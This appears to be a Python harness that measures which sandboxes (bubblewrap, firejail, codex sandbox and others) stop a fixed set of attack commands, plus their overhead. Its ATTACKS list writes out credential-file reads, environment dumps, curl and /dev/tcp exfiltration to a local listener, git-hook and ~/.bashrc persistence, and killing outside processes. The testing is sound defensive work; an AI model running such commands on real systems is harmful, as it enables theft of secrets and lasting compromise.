"""Which of a fixed list of attacks each peer lets through, what starting it takes, and what it slows down."""
import os
import pathlib
import socket
import statistics
import subprocess
import sys
import threading
import time

ACCOUNT, HOME, WORKSPACE, RUN_DIR, TEST_DIR, ROUNDS = sys.argv[1:7]
SECRET = "canary-" + os.urandom(6).hex()
USER = ["setpriv", "--reuid", ACCOUNT, "--regid", ACCOUNT, "--init-groups", "--"]
ENVIRONMENT = {"HOME": HOME, "USER": ACCOUNT, "LANG": "C.UTF-8", "PATH": f"{TEST_DIR}/bin:/usr/local/bin:/usr/bin:/bin",
               "SYSWATCH_RUN_DIR": RUN_DIR, "AWS_SECRET_ACCESS_KEY": SECRET}
BIN = f"{TEST_DIR}/peers/node_modules/.bin"
PEERS = {
    "bare": [],
    "syswatch": ["syswatch", "run", "--quiet", "--"],
    "bubblewrap": ["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp", "--bind",
                   WORKSPACE, WORKSPACE, "--unshare-all", "--die-with-parent", "--"],
    "firejail": ["firejail", "--quiet"],
    "strace -f": ["strace", "-f", "-o", "/dev/null"],
    "sandbox-runtime": [f"{BIN}/srt", "--settings", f"{TEST_DIR}/srt.json"],
    "codex sandbox": [f"{BIN}/codex", "sandbox", "-c", "sandbox_mode=workspace-write", "--"],
}


class Listener:
    """Counts what reaches it from anywhere on this machine."""
    def __init__(self, family, kind, address):
        self.socket = socket.socket(family, kind)
        self.socket.bind(address)
        self.heard = 0
        if kind == socket.SOCK_STREAM:
            self.socket.listen(16)
        if family == socket.AF_UNIX:
            os.chmod(address, 0o777)
        threading.Thread(target=self.run, args=(kind,), daemon=True).start()

    def run(self, kind):
        while True:
            if kind == socket.SOCK_STREAM:
                peer, _ = self.socket.accept()
                peer.settimeout(1)
                self.heard += 1
                try:
                    peer.recv(65536)
                    peer.send(b"HTTP/1.0 204 No Content\r\n\r\n")
                except OSError:
                    pass
                peer.close()
            else:
                self.socket.recv(65536)
                self.heard += 1


TCP = Listener(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
UDP = Listener(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
UNIX = Listener(socket.AF_UNIX, socket.SOCK_STREAM, f"{HOME}/.1password/agent.sock")
TCP_PORT, UDP_PORT = TCP.socket.getsockname()[1], UDP.socket.getsockname()[1]

# name, script; what shows that it got through: its output, a listener, a file's text, or the death of the victim.
ATTACKS = [
    ("read a credential file", "cat ~/.aws/credentials", "file-secret"),
    ("the same by /proc/self/root", "cat /proc/self/root$HOME/.aws/credentials", "file-secret"),
    ("the same by a hard link", "cat hard", "file-secret"),
    ("a secret of the environment", "printenv AWS_SECRET_ACCESS_KEY", SECRET),
    ("the environment of a process outside", "tr '\\0' '\\n' </proc/$VICTIM/environ", SECRET),
    ("npm test | tail; curl -d \"$(env)\"", f'true 2>&1 | tail -20; curl -s -m 3 http://127.0.0.1:{TCP_PORT}/collect -d "$(env)"', TCP),
    ("a TCP connection", f"timeout 3 bash -c 'echo x >/dev/tcp/127.0.0.1/{TCP_PORT}'", TCP),
    ("a datagram", f"timeout 3 bash -c 'echo x >/dev/udp/127.0.0.1/{UDP_PORT}'", UDP),
    ("a key agent's unix socket", "python3 -c \"import os, socket; socket.socket(socket.AF_UNIX).connect(os.path.expanduser('~/.1password/agent.sock'))\"", UNIX),
    ("a git hook for later", "echo 'echo x' >.git/hooks/post-commit", (f"{WORKSPACE}/.git/hooks/post-commit", "echo x")),
    ("a hook's folder by a link", "mkdir -p h; echo 'echo x' >h/post-merge; rm -rf .git/hooks; ln -s ../h .git/hooks", (f"{WORKSPACE}/.git/hooks/post-merge", "echo x")),
    ("a line in ~/.bashrc", "echo evil >>~/.bashrc", (f"{HOME}/.bashrc", "evil")),
    ("end a process outside", "kill -9 $VICTIM", None),
]
CONTROLS = [
    ("git status", "git status --short >/dev/null && echo works", "works"),
    ("write in the workspace", "echo works >made", (f"{WORKSPACE}/made", "works")),
    ("compile and run", "echo 'int main(void) { return 0; }' >t.c && gcc -o t t.c && ./t && echo works", "works"),
]
WORK = "for i in {1..300}; do /bin/true; done; git -C tree status >/dev/null; for f in c/*.c; do gcc -c -o /dev/null $f; done"


def reset():
    subprocess.run(["bash", "-c", "rm -rf h made t t.c .git/hooks; mkdir .git/hooks; echo '# mine' >~/.bashrc"], cwd=WORKSPACE,
                   env={**ENVIRONMENT, "HOME": HOME}, check=True)
    subprocess.run(["chown", "-R", ACCOUNT, f"{WORKSPACE}/.git", f"{HOME}/.bashrc"], check=True)


def why_not(peer):
    command = PEERS[peer] + ["bash", "-c", "true"]
    try:
        ended = subprocess.run(USER + command, cwd=WORKSPACE, env=ENVIRONMENT, stdin=subprocess.DEVNULL,
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=60)
        return (ended.stdout.strip().splitlines() or [f"it ended with {ended.returncode}"])[-1]
    except subprocess.TimeoutExpired:
        return "it waits"


def run(peer, script, **more):
    command = PEERS[peer] + ["bash", "-c", script]
    if peer == "sandbox-runtime":
        command = PEERS[peer] + ["-c", script]
    try:
        return subprocess.run(USER + command, cwd=WORKSPACE, env={**ENVIRONMENT, **more}, stdin=subprocess.DEVNULL,
                              stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, timeout=60).stdout
    except subprocess.TimeoutExpired:
        return ""


def gets_through(peer, script, proof):
    reset()
    victim = subprocess.Popen(USER + ["sleep", "300"], env=ENVIRONMENT)
    before = proof.heard if isinstance(proof, Listener) else 0
    output = run(peer, script, VICTIM=str(victim.pid))
    time.sleep(0.2)
    is_dead = victim.poll() is not None
    victim.kill()
    victim.wait()
    if proof is None:
        return is_dead
    if isinstance(proof, Listener):
        return proof.heard > before
    if isinstance(proof, tuple):
        path = pathlib.Path(proof[0])
        return path.exists() and proof[1] in path.read_text()
    return proof in output


def timed(peer, script):
    start = time.perf_counter()
    run(peer, script)
    return time.perf_counter() - start


def table(title, peers, rows):
    print(f"\n{title}\n{'':<40}" + "".join(f"{peer:>17}" for peer in peers))
    for name, cells in rows:
        print(f"{name:<40}" + "".join(f"{cell:>17}" for cell in cells), flush=True)


def main():
    peers = [peer for peer in PEERS if "alive" in run(peer, "echo alive")]
    for missing in PEERS.keys() - set(peers):
        print(f"left out, because it does not start: {missing}: {why_not(missing)}")
    for peer in peers[1:]:
        print(f"{peer}: {' '.join(PEERS[peer])}")
    shows = lambda through: "LET THROUGH" if through else "held"
    table("attacks", peers, [(name, [shows(gets_through(peer, script, proof)) for peer in peers]) for name, script, proof in ATTACKS])
    works = lambda through: "works" if through else "BROKEN"
    table("what must go on working", peers, [(name, [works(gets_through(peer, script, proof)) for peer in peers]) for name, script, proof in CONTROLS])
    starts, work = {peer: [] for peer in peers}, {peer: [] for peer in peers}
    for _ in range(int(ROUNDS)):
        for peer in peers:
            starts[peer].append(timed(peer, "true"))
            work[peer].append(timed(peer, WORK))
    start = {peer: statistics.median(times) for peer, times in starts.items()}
    whole = {peer: statistics.median(times) for peer, times in work.items()}
    # The work alone: what a session takes beyond its start.
    alone = {peer: whole[peer] - start[peer] for peer in peers}
    table(f"time, medians of {ROUNDS} interleaved rounds", peers, [
        ("start of a command, ms", [f"{start[peer] * 1000:.0f}" for peer in peers]),
        ("300 execs, git status, 20 compiles, ms", [f"{alone[peer] * 1000:.0f}" for peer in peers]),
        ("  as a ratio to bare", [f"{alone[peer] / alone['bare']:.2f}" for peer in peers]),
    ])


main()
